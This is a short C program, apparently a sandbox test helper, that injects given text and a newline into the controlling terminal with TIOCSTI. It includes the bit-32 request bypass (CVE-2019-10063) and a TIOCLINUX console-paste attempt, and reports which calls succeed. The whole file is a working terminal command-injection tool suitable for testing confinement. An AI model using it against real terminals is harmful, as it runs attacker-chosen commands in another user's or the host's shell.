/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tty-inject [--high] TEXT: what a hostile job does to the terminal on its
 * stdin (CVE-2017-5226): push TEXT and a newline into its input queue with
 * TIOCSTI, one byte at a time, for the shell that reads the terminal next to
 * run; then try TIOCLINUX (TIOCL_PASTESEL, the console paste). --high sets
 * bit 32 of the TIOCSTI request, which the kernel ignores (CVE-2019-10063).
 * Prints "TIOCSTI OK" or "TIOCSTI <errno name>" (the first failure), then
 * "TIOCLINUX ..." the same way. Exit 0 when all of TEXT went in, 1 when not,
 * 2 on usage error.
 */
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static const char *result(int r) {
        const char *name = r == 0 ? "OK" : strerrorname_np(r);
        return name ? name : "E?";
}

static int inject(const char *text, bool high) {
        unsigned long request = TIOCSTI;
        if (high && sizeof(unsigned long) > 4)
                request |= 1UL << (sizeof(unsigned long) * 8 / 2);
        for (const char *c = text;; c++) {
                const char *byte = *c ? c : "\n";
                if (ioctl(STDIN_FILENO, request, byte) < 0)
                        return errno;
                if (!*c)
                        return 0;
        }
}

int main(int argc, char **argv) {
        bool high = argc == 3 && strcmp(argv[1], "--high") == 0;
        if (argc != 2 && !high) {
                fprintf(stderr, "usage: tty-inject [--high] TEXT\n");
                return 2;
        }
        int r = inject(argv[argc - 1], high);
        printf("TIOCSTI %s\n", result(r));
        char paste = 3; /* TIOCL_PASTESEL */
        printf("TIOCLINUX %s\n", result(ioctl(STDIN_FILENO, TIOCLINUX, &paste) < 0 ? errno : 0));
        return r == 0 ? 0 : 1;
}
